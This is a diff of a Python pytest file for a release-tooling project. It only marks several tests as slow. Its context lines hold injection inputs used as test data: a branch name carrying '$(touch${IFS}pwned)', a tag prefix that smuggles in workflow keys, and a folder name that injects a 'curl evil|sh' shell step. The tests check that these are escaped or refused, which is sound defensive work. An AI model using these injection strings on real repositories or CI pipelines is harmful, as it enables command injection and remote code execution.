@@ -169,6 +169,7 @@ def plain(tmp_path_factory: pytest.TempPathFactory) -> str:
 
 @pytest.mark.parametrize("branch", ['rel"ease,(x)', "!neg+x", "$(touch${IFS}pwned)",
                                     "a'b#c", "日本語"])
+@pytest.mark.slow
 def test_a_detected_branch_name_is_written_as_itself(tmp_path: Path, branch: str,
                                                      plain: str) -> None:
     sample = make_sample(tmp_path / "p")
@@ -199,6 +200,7 @@ def test_a_detected_branch_name_is_written_as_itself(tmp_path: Path, branch: str
     ('tag-prefix = "v\\"]\\n  pull_request_target:\\n    x: [\\""', "the release tags' prefix"),
     ('tag-prefix = "v\\u0000"', "the release tags' prefix"),
 ])
+@pytest.mark.slow
 def test_a_configured_value_that_cannot_be_written_is_refused(tmp_path: Path, toml: str,
                                                                setting: str) -> None:
     sample = make_sample(tmp_path / "p", extra=f"\n[tool.release]\n{toml}\n")
@@ -209,6 +211,7 @@ def test_a_configured_value_that_cannot_be_written_is_refused(tmp_path: Path, to
     assert snapshot(sample.path) == before
 
 
+@pytest.mark.slow
 def test_a_tag_prefix_with_a_quote_is_escaped(tmp_path: Path) -> None:
     sample = make_sample(tmp_path / "p", extra='\n[tool.release]\ntag-prefix = "re\\"l+"\n')
     proc = init(sample.path)
@@ -219,6 +222,7 @@ def test_a_tag_prefix_with_a_quote_is_escaped(tmp_path: Path) -> None:
     ast.parse((sample.path / "noxfile.py").read_text())
 
 
+@pytest.mark.slow
 def test_build_requirements_cannot_add_an_index(tmp_path: Path) -> None:
     extra = ""
     sample = make_sample(tmp_path / "p", extra=extra)
@@ -233,6 +237,7 @@ def test_build_requirements_cannot_add_an_index(tmp_path: Path) -> None:
     assert snapshot(sample.path) == before
 
 
+@pytest.mark.slow
 def test_a_folder_name_cannot_become_workflow_keys(tmp_path: Path) -> None:
     root = tmp_path / "repo"
     folder = "pkg\ndefaults:\n  run:\n    shell: bash -c 'curl evil|sh' {0}"
@@ -313,6 +318,7 @@ URL = "https://user:S3CRET-pw@index.example/legacy/"
     (f"--repository={URL}",), ("--repos", URL), (f"--repository-u={URL}",),
     ("--dry-run", "--repository-url", URL, "--repo", "."),
 ])
+@pytest.mark.slow
 def test_every_spelling_of_the_url_travels_out_of_sight(monkeypatch: pytest.MonkeyPatch,
                                                          which: Any, args: tuple[str, ...]
                                                          ) -> None:
